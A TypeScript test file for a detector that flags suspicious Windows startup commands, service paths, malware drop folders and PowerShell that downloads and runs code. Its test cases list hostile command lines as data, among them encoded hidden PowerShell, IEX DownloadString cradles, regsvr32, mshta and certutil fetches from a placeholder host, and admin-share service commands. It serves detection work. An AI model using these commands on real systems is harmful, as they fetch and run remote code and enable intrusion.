import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { hostsNamed, runsWhatItFetches } from './powershell-fetch.ts'
import { isDropPlace, oddLaunch, oddService } from './windows-launch.ts'

const reason = (line: string) => oddLaunch(line)?.reason ?? null

describe('a command that starts by itself', () => {
  it.each([
    ['powershell -NoP -W Hidden -enc dwBoAG8AYQBtAGkA', 'runs encoded PowerShell'],
    [
      `cmd /c start /min powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"`,
      'fetches code with PowerShell and runs it',
    ],
    ['mshta.exe http://192.0.2.1/a.hta', 'runs mshta on http://192.0.2.1/a.hta'],
    ['mshta vbscript:Execute("x")', 'runs mshta on vbscript:Execute(x)'],
    [
      'C:\\Windows\\System32\\regsvr32.exe /s /u /i:http://192.0.2.1/a.sct scrobj.dll',
      'runs regsvr32 on /i:http://192.0.2.1/a.sct',
    ],
    ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "', 'runs a script with rundll32'],
    ['rundll32 C:\\Users\\Public\\a.dll,Start', 'runs C:\\Users\\Public\\a.dll'],
    ['msiexec /q /i http://192.0.2.1/a.msi', 'runs msiexec on http://192.0.2.1/a.msi'],
    ['wscript //e:vbscript C:\\a.txt', 'runs wscript on //e:vbscript'],
    ['certutil -urlcache -f http://192.0.2.1/a a.exe', 'runs certutil on http://192.0.2.1/a'],
    ['"C:\\Users\\ada\\AppData\\Local\\Temp\\a.exe" /x', 'runs C:\\Users\\ada\\AppData\\Local\\Temp\\a.exe'],
    ['C:\\ProgramData\\svc.exe', 'runs C:\\ProgramData\\svc.exe'],
    ['%AppData%\\a.exe', 'runs %AppData%\\a.exe'],
    ['cmd /c C:\\Users\\Public\\run.bat', 'runs C:\\Users\\Public\\run.bat'],
    [
      'wscript.exe "C:\\Users\\ada\\AppData\\Roaming\\x\\a.vbs"',
      'runs C:\\Users\\ada\\AppData\\Roaming\\x\\a.vbs',
    ],
    ['powershell -File C:\\Windows\\Temp\\a.ps1', 'runs C:\\Windows\\Temp\\a.ps1'],
    ['regsvr32 /s C:\\Users\\Public\\a.ocx', 'runs C:\\Users\\Public\\a.ocx'],
  ])('is odd: %s', (line, expected) => {
    expect(oddLaunch(line)).toEqual({ reason: expected, sure: true })
  })

  it('may be the work of its user', () => {
    expect(oddLaunch('powershell -File C:\\Users\\ada\\Documents\\backup.ps1')).toEqual({
      reason: 'runs C:\\Users\\ada\\Documents\\backup.ps1',
      sure: false,
    })
  })

  it.each([
    'C:\\Users\\ada\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background',
    '"C:\\Users\\ada\\AppData\\Local\\slack\\slack.exe" --process-start-args --startup',
    'C:\\Users\\ada\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe"',
    '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
    '%windir%\\system32\\rundll32.exe Startupscan.dll,SusRunTask',
    '%systemroot%\\system32\\cmd.exe /d /c "%systemroot%\\system32\\silcollector.cmd" publish',
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Example\\task.ps1"',
    'C:\\ProgramData\\chocolatey\\bin\\choco.exe upgrade all',
    'C:\\Temp\\nightly.bat',
    'msiexec /i C:\\Installers\\a.msi /qn',
    'regsvr32 /s C:\\Windows\\System32\\a.dll',
    'mshta.exe C:\\Program Files\\Example\\help.hta',
    '',
  ])('is not: %s', line => {
    expect(reason(line)).toBeNull()
  })

  it('never throws and takes no time', () => {
    fc.assert(
      fc.property(fc.string(), line => {
        oddLaunch(line)
        oddService(line)
      }),
      { numRuns: 200 },
    )
    for (const piece of ['\\', '"', '^', 'cmd /c ', 'powershell -c (', 'C:\\Users\\Public\\', ' ', '%']) {
      const line = piece.repeat(Math.ceil(10_000 / piece.length))
      let least = Number.POSITIVE_INFINITY
      for (let run = 0; run < 5; run++) {
        const start = performance.now()
        oddLaunch(`${line}!`)
        oddService(`${line}!`)
        least = Math.min(least, performance.now() - start)
      }
      expect(least, piece).toBeLessThan(5)
    }
  })
})

describe('a service', () => {
  it.each([
    '%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1',
    'cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef',
    '\\\\127.0.0.1\\ADMIN$\\a1b2c3d.exe',
    'powershell.exe -nop -w hidden -encodedcommand dwBoAG8AYQBtAGkA',
    'C:\\Windows\\Temp\\svc.exe',
    'C:\\Users\\ada\\tools\\svc.exe -d',
  ])('is odd: %s', path => {
    expect(oddService(path)).not.toBeNull()
  })

  it.each([
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
    '"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe" --flagfile="C:\\Program Files\\osquery\\osquery.flags"',
    '\\??\\C:\\Windows\\system32\\drivers\\a.sys',
    '\\SystemRoot\\System32\\drivers\\a.sys',
    'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23100.2009-0\\MsMpEng.exe',
    'C:\\WINDOWS\\PSEXESVC.exe',
    '',
  ])('is not: %s', path => {
    expect(oddService(path)).toBeNull()
  })
})

describe('a place where nobody installs programs', () => {
  it.each([
    'C:\\Users\\Public\\Libraries\\a.exe',
    'C:\\Users\\ada\\Downloads\\a.exe',
    'C:\\Users\\ada\\a.exe',
    'C:\\Users\\ada\\AppData\\Roaming\\a.exe',
    '\\\\?\\C:\\ProgramData\\a.dll',
    'C:\\PerfLogs\\x\\a.exe',
  ])('is %s', path => {
    expect(isDropPlace(path)).toBe(true)
  })

  it.each([
    'C:\\ProgramData\\Example\\a.exe',
    'C:\\Users\\ada\\AppData\\Local\\Programs\\x\\a.exe',
    'C:\\Temp\\a.exe',
    'C:\\a.exe',
    '',
  ])('is not %s', path => {
    expect(isDropPlace(path)).toBe(false)
  })
})

describe('PowerShell that runs what it fetches', () => {
  it.each([
    "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
    'iwr -useb https://example.com/a.ps1 | iex',
    '$x = Invoke-RestMethod http://192.0.2.1/a; Invoke-Expression $x',
    "& ([scriptblock]::Create((irm 'https://example.com/a')))",
    "I`E`X ((new-object net.webclient).('Down'+'loadString')('http://192.0.2.1'))",
    "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://192.0.2.1/a.dll'))",
  ])('is %s', code => {
    expect(runsWhatItFetches(code)).toBe(true)
  })

  it.each([
    'Invoke-WebRequest https://example.com/a.zip -OutFile a.zip',
    'Invoke-Expression $command',
    "Start-Process 'C:\\a.exe'",
    '',
  ])('is not %s', code => {
    expect(runsWhatItFetches(code)).toBe(false)
  })

  it('names hosts', () => {
    expect(
      hostsNamed("iwr 'https://User@Example.com:8443/a?b=http://192.0.2.1/' -o http://[2001:db8::1]/x"),
    ).toEqual(['example.com', '[2001:db8::1]'])
    expect(hostsNamed('nothing')).toEqual([])
  })
})
